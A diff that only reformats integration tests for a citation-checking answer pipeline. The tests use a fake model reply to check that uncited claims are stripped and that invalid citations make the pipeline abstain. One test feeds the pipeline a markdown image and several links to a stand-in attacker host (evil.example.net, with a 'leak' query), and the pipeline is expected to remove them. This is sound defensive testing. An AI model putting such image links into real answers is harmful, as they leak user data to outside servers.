@@ -81,17 +81,20 @@ async def test_a_cited_answer_comes_back_with_its_citation(pipeline: Pipeline, f
 
 @pytest.mark.integration
 async def test_uncited_sentences_are_stripped(pipeline: Pipeline, fake_openai: FakeOpenAI) -> None:
-    fake_openai.script_reply(lambda body: (
-        f"The PPO individual deductible is $1,250.[^{first_chunk_id(body)}] "
-        "Also, dental is free for everyone."))
+    fake_openai.script_reply(
+        lambda body: (
+            f"The PPO individual deductible is $1,250.[^{first_chunk_id(body)}] Also, dental is free for everyone."
+        )
+    )
     answer = await pipeline.answer(QUESTION, token())
     assert not answer.abstained
     assert "$1,250" in answer.answer and "dental is free" not in answer.answer
 
 
 @pytest.mark.integration
-async def test_a_citation_of_a_chunk_not_in_the_prompt_rejects_the_answer(pipeline: Pipeline,
-                                                                          fake_openai: FakeOpenAI) -> None:
+async def test_a_citation_of_a_chunk_not_in_the_prompt_rejects_the_answer(
+    pipeline: Pipeline, fake_openai: FakeOpenAI
+) -> None:
     fake_openai.script_reply("The PPO individual deductible is $0.[^medical-2026_p9_c07]")
     answer = await pipeline.answer(QUESTION, token())
     assert answer.abstained and answer.abstain_reason == "invalid_citation"
@@ -100,11 +103,14 @@ async def test_a_citation_of_a_chunk_not_in_the_prompt_rejects_the_answer(pipeli
 
 @pytest.mark.integration
 async def test_injected_images_and_outside_links_are_removed(pipeline: Pipeline, fake_openai: FakeOpenAI) -> None:
-    fake_openai.script_reply(lambda body: (
-        # Only the links are foreign; the words are the chunk's (the claim-support stage strips
-        # sentences that add claims, such as an invented "portal").
-        "The PPO individual deductible is $1,250 ![t](https://evil.example.net/p.png?q=leak) per calendar "
-        f"[year](https://evil.example.net/claim) https://evil.example.net/x.[^{first_chunk_id(body)}]"))
+    fake_openai.script_reply(
+        lambda body: (
+            # Only the links are foreign; the words are the chunk's (the claim-support stage strips
+            # sentences that add claims, such as an invented "portal").
+            "The PPO individual deductible is $1,250 ![t](https://evil.example.net/p.png?q=leak) per calendar "
+            f"[year](https://evil.example.net/claim) https://evil.example.net/x.[^{first_chunk_id(body)}]"
+        )
+    )
     answer = await pipeline.answer(QUESTION, token())
     assert not answer.abstained
     assert "evil.example.net" not in answer.answer and "![" not in answer.answer
